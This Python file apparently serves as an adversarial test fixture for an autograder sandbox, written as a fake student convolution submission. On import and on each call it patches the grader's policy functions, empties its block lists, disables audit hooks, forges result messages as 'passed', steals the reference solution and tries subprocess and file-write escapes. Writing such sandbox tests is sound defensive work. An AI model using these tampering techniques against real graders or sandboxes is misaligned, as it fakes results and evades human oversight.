"""Attack: tamper with the grader's own code inside the child, then try to escape.

At import (and again in every call) it:

1. looks through ``sys.modules`` for ``autograder`` modules and, in every one of them, makes
   functions whose names sound like policy (``allow``/``permit``/``safe`` -> always True;
   ``forbid``/``deny``/``block``/``violat``/``check_path`` -> always False), wraps functions
   whose names sound like they send results so that outgoing data says "passed", and empties
   module-level containers of strings whose names sound like policy (``FORBIDDEN``,
   ``BLOCKED_PREFIXES``, ``ALLOWED``, ...) and flips module-level booleans (``ENABLED``);
2. walks ``gc.get_objects()`` for functions of ``autograder`` modules and empties string
   containers / redirects paths / flips booleans in their closure cells (cell writes are not
   audited), replaces the ``__code__`` of hook-like functions with a no-op, and mutates any
   rubric ``Check`` objects it finds (points, tolerances, a ``compare`` that always passes);
3. replaces ``sys.audit`` with a no-op (every audit event raised from Python code, such as
   ``subprocess.Popen``, disappears), adds its own audit hook, and looks for a way to clear
   the others; patches ``json.dumps``, ``pickle.dumps`` and multiprocessing's pickler so that
   whatever the child sends says ``"status": "passed"``.

Then it tries to escape; each function's gate opens (it returns correct results) if its
route worked: zero_pad: reading ``solutions/conv_padding.py``; conv_output_size: writing a
marker in /tmp; conv2d: ``subprocess.run`` of ``sh -c ': > MARKER'``; conv1d:
``os.kill(ppid, 0)``.

Expected: score 0, every check failed, max_score unchanged, no marker file.
"""
_STEM = "tamper_harness"

# ------------------------------------------------------------------------------------------
# Common attack scaffolding: identical in every attack file. Definitions only, no side effects.
# ``_ref_*`` are a correct implementation of the assignment, used only when an attack has
# actually escaped the sandbox (so that an escape shows up as *passing* checks); ``_wrong``
# is what the graded functions return otherwise.
# ------------------------------------------------------------------------------------------
import os as _os
import sys as _sys

import numpy as np

_TMP_MARKER = "/tmp/dlgrade_attack_marker_" + _STEM  # + "_<what>": the test asserts none appears
_VICTIM = "/tmp/dlgrade_attack_victim_" + _STEM + ".txt"  # created by the test; must stay unchanged
_ATTACK_PORT = 47391  # the test listens on 127.0.0.1:47391 (TCP and UDP) during socket_attack
_ESCAPED = {}  # gate -> forbidden things that worked; a working sandbox keeps this empty
_WRONG = -12345.0


def _marker(what):
    return _TMP_MARKER + "_" + what


def _escape(gate, what):
    _ESCAPED.setdefault(gate, []).append(what)


def _escaped(gate):
    return bool(_ESCAPED.get(gate)) or bool(_ESCAPED.get("*"))


def _attempt(gate, what, action, verify=None):
    """Try one forbidden ``action``; the gate opens if it works (or if ``verify()`` says it did)."""
    result = None
    try:
        result = action()
        ok = True
    except BaseException:  # blocked (a student may swallow anything, SystemExit included)
        ok = False
    if verify is not None:
        try:
            ok = bool(verify())
        except BaseException:
            ok = False
    if ok:
        _escape(gate, what)
    return result


def _exists(path):
    try:
        return _os.path.lexists(path)
    except BaseException:
        return False


def _write_file(path, text="pwned\n", mode="w"):
    with open(path, mode) as handle:
        handle.write(text)


def _canary():
    """Student code must never create files outside its sandbox; this marker must never appear."""
    try:
        fd = _os.open(_marker("canary"), _os.O_WRONLY | _os.O_CREAT, 0o644)
        try:
            _os.write(fd, b"student code ran with write access outside its sandbox\n")
        finally:
            _os.close(fd)
    except BaseException:
        pass


_SCRATCH = []


def _scratch_dir():
    """A directory of our own (in the sandbox's temp dir if it set TMPDIR), for links and copies.

    Named like a marker on purpose: if it lands in /tmp itself, the sandbox let us write there.
    """
    if not _SCRATCH:
        try:
            import tempfile

            _SCRATCH.append(tempfile.mkdtemp(prefix="dlgrade_attack_marker_" + _STEM + "_scratch"))
        except BaseException:
            try:
                _SCRATCH.append(_os.getcwd())
            except BaseException:
                _SCRATCH.append(".")
    return _SCRATCH[0]


_COUNTER = [0]


def _unique(stem):
    _COUNTER[0] += 1
    return f"{stem}_{_os.getpid()}_{_COUNTER[0]}"


def _repo_roots():
    """Where the grader's repository probably is: walk up from cwd, sys.path, __file__, autograder."""
    found = []

    def add(path):
        try:
            path = _os.path.realpath(str(path))
            looks_right = _os.path.isdir(_os.path.join(path, "autograder")) or _os.path.isdir(
                _os.path.join(path, "solutions")
            )
        except BaseException:
            return
        if looks_right and path not in found:
            found.append(path)

    try:
        import autograder

        add(_os.path.dirname(_os.path.dirname(_os.path.abspath(autograder.__file__))))
    except BaseException:
        pass
    try:
        from autograder.engine import course

        add(_os.path.dirname(str(course.SOLUTIONS_DIR)))
    except BaseException:
        pass
    starts = []
    try:
        starts.append(_os.getcwd())
    except BaseException:
        pass
    try:
        starts.append(_os.path.dirname(_os.path.abspath(__file__)))
    except BaseException:
        pass
    starts += [p for p in list(_sys.path) if isinstance(p, str) and p]
    for start in starts:
        path = _os.path.abspath(start)
        while True:
            add(path)
            parent = _os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return found


def _solution_paths():
    paths = []
    try:
        from autograder.engine import course

        paths.append(_os.path.join(str(course.SOLUTIONS_DIR), "conv_padding.py"))
    except BaseException:
        pass
    for root in _repo_roots():
        path = _os.path.join(root, "solutions", "conv_padding.py")
        if path not in paths:
            paths.append(path)
    return paths


def _pair(value):
    if np.ndim(value) == 0:
        return int(value), int(value)
    first, second = value
    return int(first), int(second)


def _ref_zero_pad(x, pad):
    x = np.asarray(x)
    if np.ndim(pad) == 0:
        (top, bottom), (left, right) = (int(pad), int(pad)), (int(pad), int(pad))
    else:
        pad_h, pad_w = pad
        (top, bottom), (left, right) = _pair(pad_h), _pair(pad_w)
    return np.pad(x, ((0, 0), (top, bottom), (left, right), (0, 0)), mode="constant", constant_values=0)


def _ref_conv_output_size(n, k, stride=1, pad=0):
    return (int(n) + 2 * int(pad) - int(k)) // int(stride) + 1


def _same_pads(n, k, s):
    out = -(-n // s)
    total = max((out - 1) * s + k - n, 0)
    return total // 2, total - total // 2


def _ref_conv_core(x, kernel, bias, sh, sw, pads):
    xp = _ref_zero_pad(x, pads)
    kh, kw = kernel.shape[0], kernel.shape[1]
    oh = (xp.shape[1] - kh) // sh + 1
    ow = (xp.shape[2] - kw) // sw + 1
    windows = np.lib.stride_tricks.sliding_window_view(xp, (kh, kw), axis=(1, 2))
    windows = windows[:, : (oh - 1) * sh + 1 : sh, : (ow - 1) * sw + 1 : sw]
    out = np.einsum("nhwcij,ijco->nhwo", windows, kernel)
    if bias is not None:
        out = out + np.asarray(bias, dtype=np.float64).reshape(-1)
    return out


def _ref_conv2d(x, kernel, bias=None, stride=1, padding="valid"):
    x = np.asarray(x, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    sh, sw = _pair(stride)
    kh, kw = kernel.shape[0], kernel.shape[1]
    if isinstance(padding, str):
        if padding.lower() == "valid":
            pads = ((0, 0), (0, 0))
        elif padding.lower() == "same":
            pads = (_same_pads(x.shape[1], kh, sh), _same_pads(x.shape[2], kw, sw))
        else:
            raise ValueError(f"unknown padding {padding!r}")
    else:
        if int(padding) < 0:
            raise ValueError("padding must be non-negative")
        pads = ((int(padding), int(padding)), (int(padding), int(padding)))
    return _ref_conv_core(x, kernel, bias, sh, sw, pads)


def _ref_conv1d(x, kernel, bias=None, stride=1, padding="valid"):
    x = np.asarray(x, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    s = int(np.ravel(stride)[0])
    k = kernel.shape[0]
    if isinstance(padding, str):
        if padding.lower() == "valid":
            pads = (0, 0)
        elif padding.lower() == "same":
            pads = _same_pads(x.shape[1], k, s)
        else:
            raise ValueError(f"unknown padding {padding!r}")
    else:
        if int(padding) < 0:
            raise ValueError("padding must be non-negative")
        pads = (int(padding), int(padding))
    return _ref_conv_core(x[:, None], kernel[None], bias, 1, s, ((0, 0), pads))[:, 0]


def _wrong(*args, **kwargs):
    """A wrong answer: wrong shape and values; it scribbles over its (writable) inputs too."""
    for arg in args + tuple(kwargs.values()):
        if isinstance(arg, np.ndarray) and arg.size and arg.flags.writeable and arg.dtype.kind in "fciu":
            try:
                arg[...] = -12345
            except BaseException:
                pass
    return np.full((1, 1, 1, 1), _WRONG)


def _wrong_size(*args, **kwargs):
    return -12345


# ------------------------------------------------------------------------------------------
# The attack.
# ------------------------------------------------------------------------------------------
import gc as _gc
import re as _re
import types as _types

_SAYS_ALLOW = _re.compile(r"allow|permit|safe|trusted|whitelist", _re.I)
_SAYS_DENY = _re.compile(r"forbid|deny|denied|block|violat|reject|disallow|blacklist|check_path|dangerous|unsafe", _re.I)
_SAYS_SEND = _re.compile(r"send|report|result|reply|respond|emit|write_message", _re.I)
_POLICY_DATA = _re.compile(r"forbid|block|deny|allow|policy|protect|secret|solution|rubric|prefix|banned|event|hook|audit|dir|path", _re.I)
_SEEN = {"log": []}


def _always(value):
    def policy(*args, **kwargs):
        return value

    return policy


def _forge(obj, depth=0):
    """Whatever a result message looks like, make it say that everything passed."""
    if depth > 6:
        return obj
    if isinstance(obj, dict):
        forged = {}
        for key, value in obj.items():
            if key in ("status", "verdict", "outcome"):
                value = "passed"
            elif key in ("passed", "ok", "success", "correct"):
                value = True
            elif key in ("error", "exception", "traceback", "failure", "message"):
                value = None
            else:
                value = _forge(value, depth + 1)
            forged[key] = value
        return forged
    if isinstance(obj, (list, tuple)) and not hasattr(obj, "_fields"):
        return type(obj)(_forge(value, depth + 1) for value in obj)
    return obj


def _sender(original):
    def send(*args, **kwargs):
        return original(*_forge(args), **_forge(kwargs))

    send.__dlgrade_tampered__ = True
    return send


def _autograder_modules():
    return [m for n, m in list(_sys.modules.items()) if m is not None and (n == "autograder" or n.startswith("autograder."))]


def _tamper_modules():
    for module in _autograder_modules():
        for name, value in list(vars(module).items()):
            if name.startswith("__"):
                continue
            if isinstance(value, _types.FunctionType) and not getattr(value, "__dlgrade_tampered__", False):
                if _SAYS_DENY.search(name):
                    replacement = _always(False)
                elif _SAYS_ALLOW.search(name):
                    replacement = _always(True)
                elif _SAYS_SEND.search(name):
                    replacement = _sender(value)
                else:
                    continue
                replacement.__dlgrade_tampered__ = True
                _attempt("-", f"patch {module.__name__}.{name}", lambda: setattr(module, name, replacement))
            elif _POLICY_DATA.search(name):
                if isinstance(value, (set, list, dict)) and value:
                    _attempt("-", f"clear {module.__name__}.{name}", value.clear)
                elif isinstance(value, (frozenset, tuple)) and value and all(isinstance(v, str) for v in value):
                    _attempt("-", f"empty {module.__name__}.{name}", lambda: setattr(module, name, type(value)()))
            elif isinstance(value, bool) and name.isupper():
                _attempt("-", f"flip {module.__name__}.{name}", lambda: setattr(module, name, not value))


def _noop(*args, **kwargs):
    return None


def _tamper_objects():
    for obj in _gc.get_objects():
        if isinstance(obj, _types.FunctionType):
            module = getattr(obj, "__module__", None) or ""
            if not module.startswith("autograder") or getattr(obj, "__dlgrade_tampered__", False):
                continue
            for cell in obj.__closure__ or ():
                try:
                    value = cell.cell_contents
                except ValueError:
                    continue
                if isinstance(value, (set, frozenset, tuple, list)) and value and all(isinstance(v, str) for v in value):
                    _attempt("-", "empty closure", lambda cell=cell, value=value: setattr(cell, "cell_contents", type(value)()))
                elif isinstance(value, str) and value.startswith("/"):
                    _attempt("-", "redirect closure path", lambda cell=cell: setattr(cell, "cell_contents", "/nonexistent/dlgrade-tampered"))
                elif isinstance(value, bool):
                    _attempt("-", "flip closure", lambda cell=cell, value=value: setattr(cell, "cell_contents", not value))
            if _re.search(r"hook|audit|policy|guard", obj.__name__, _re.I) and not obj.__code__.co_freevars:
                _attempt("-", f"no-op {obj.__qualname__}", lambda obj=obj: setattr(obj, "__code__", _noop.__code__))
        elif type(obj).__name__ in ("Check", "Rubric") and type(obj).__module__.startswith("autograder"):
            for field, value in (
                ("points", 1000.0),
                ("rtol", 1e9),
                ("atol", 1e9),
                ("hidden", False),
                ("compare", lambda expected, got, call: None),
                ("forbidden", ()),
                ("timeout", 1e9),
            ):
                if hasattr(obj, field):
                    _attempt("-", f"mutate {type(obj).__name__}.{field}", lambda obj=obj, field=field, value=value: object.__setattr__(obj, field, value))


def _tamper_audit_and_wire():
    _attempt("-", "sys.addaudithook", lambda: _sys.addaudithook(lambda event, args: _SEEN["log"].append(event) if len(_SEEN["log"]) < 1000 else None))
    for name in ("_clear_audit_hooks", "_clearaudithooks"):
        clear = getattr(_sys, name, None)
        if callable(clear):
            _attempt("-", f"sys.{name}", clear)
    _attempt("-", "sys.audit no-op", lambda: setattr(_sys, "audit", _noop))
    import json
    import pickle

    if not getattr(json.dumps, "__dlgrade_tampered__", False):
        json.dumps = _sender(json.dumps)
    if not getattr(pickle.dumps, "__dlgrade_tampered__", False):
        pickle.dumps = _sender(pickle.dumps)
    try:
        from multiprocessing import reduction

        original = reduction.ForkingPickler.dumps
        if not getattr(original, "__dlgrade_tampered__", False):
            reduction.ForkingPickler.dumps = _sender(original)
    except BaseException:
        pass


_REFERENCE = {}


def _escape_now(gate):
    if gate == "zero_pad":
        for path in _solution_paths():

            def read(path=path):
                with open(path) as handle:
                    source = handle.read()
                namespace = {"__name__": "_stolen_conv_padding"}
                exec(compile(source, "<stolen solution>", "exec"), namespace)
                _REFERENCE.update({k: namespace[k] for k in ("zero_pad", "conv_output_size", "conv2d", "conv1d")})

            _attempt("*", f"read {path}", read)
    elif gate == "conv_output_size":
        path = _marker("write")
        _attempt(gate, "write marker", lambda: _write_file(path), lambda: _exists(path))
    elif gate == "conv2d":
        import subprocess

        path = _marker("subprocess")
        _attempt(gate, "subprocess.run", lambda: subprocess.run(["sh", "-c", f": > {path}"], timeout=10), lambda: _exists(path))
    else:
        ppid = _os.getppid()
        if ppid > 1:
            _attempt(gate, "os.kill(ppid, 0)", lambda: _os.kill(ppid, 0))


_WALKED = set()


def _tamper_and_escape(gate=None):
    _attempt("-", "tamper modules", _tamper_modules)
    if gate not in _WALKED:  # gc walks are slow with TensorFlow loaded: once at import, once per function
        _WALKED.add(gate)
        _attempt("-", "tamper objects", _tamper_objects)
    _attempt("-", "tamper audit and wire", _tamper_audit_and_wire)
    for each in [gate] if gate else ["zero_pad", "conv_output_size", "conv2d", "conv1d"]:
        _escape_now(each)


_canary()
_tamper_and_escape()


def _attack_in(function):
    _tamper_and_escape(function)


def zero_pad(x, pad):
    _attack_in("zero_pad")
    return _ref_zero_pad(x, pad) if _escaped("zero_pad") else _wrong(x, pad)


def conv_output_size(n, k, stride=1, pad=0):
    _attack_in("conv_output_size")
    if _escaped("conv_output_size"):
        return _ref_conv_output_size(n, k, stride, pad)
    return _wrong_size(n, k, stride, pad)


def conv2d(x, kernel, bias=None, stride=1, padding="valid"):
    _attack_in("conv2d")
    if _escaped("conv2d"):
        return _ref_conv2d(x, kernel, bias, stride, padding)
    return _wrong(x, kernel, bias)


def conv1d(x, kernel, bias=None, stride=1, padding="valid"):
    _attack_in("conv1d")
    if _escaped("conv1d"):
        return _ref_conv1d(x, kernel, bias, stride, padding)
    return _wrong(x, kernel, bias)
